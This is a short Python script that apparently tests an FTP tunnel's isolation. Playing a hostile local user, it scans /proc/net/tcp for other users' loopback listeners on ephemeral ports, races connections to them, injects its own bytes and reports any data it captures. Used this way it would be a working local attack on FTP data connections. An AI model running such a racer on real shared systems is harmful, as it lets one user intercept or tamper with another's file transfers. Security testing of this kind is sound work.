#!/usr/bin/env python3
"""Another local user racing an FTP client's data connections through the tunnel.

usage: racer.py TUNNEL-PORT

It reads the socket table for loopback listeners of other users on ephemeral ports (the
tunnel's passive ports, a client's PORT listener), connects to each at once, sends bytes of
its own, and reports anything it receives (`GOT n bytes from PORT`). It also knocks at the
tunnel itself. Runs until killed."""
import os
import socket
import sys

ME = os.getuid()
TUNNEL = int(sys.argv[1])
with open("/proc/sys/net/ipv4/ip_local_port_range") as f:
    LOW, HIGH = (int(n) for n in f.read().split())


def listeners():
    found = {TUNNEL}
    with open("/proc/net/tcp") as table:
        next(table)
        for row in table:
            fields = row.split()
            local, state, uid = fields[1], fields[3], int(fields[7])
            address, port = local.split(":")
            port = int(port, 16)
            if state == "0A" and address == "0100007F" and uid != ME and LOW <= port <= HIGH:
                found.add(port)
    return found


def knock(port, wait):
    try:
        s = socket.create_connection(("127.0.0.1", port), timeout=0.2)
        s.sendall(b"EVIL BYTES OF ANOTHER USER\r\n" * 4)
        s.settimeout(wait)
        data = s.recv(65536)
        if data:
            print(f"GOT {len(data)} bytes from {port}: {data[:60]!r}", flush=True)
        s.close()
    except OSError:
        pass


rounds = 0
while True:
    rounds += 1
    for port in listeners():
        # The tunnel's refusal comes at once; a data port says nothing to a stranger.
        if port != TUNNEL or rounds % 50 == 0:
            knock(port, 0.5 if port == TUNNEL else 0.02)
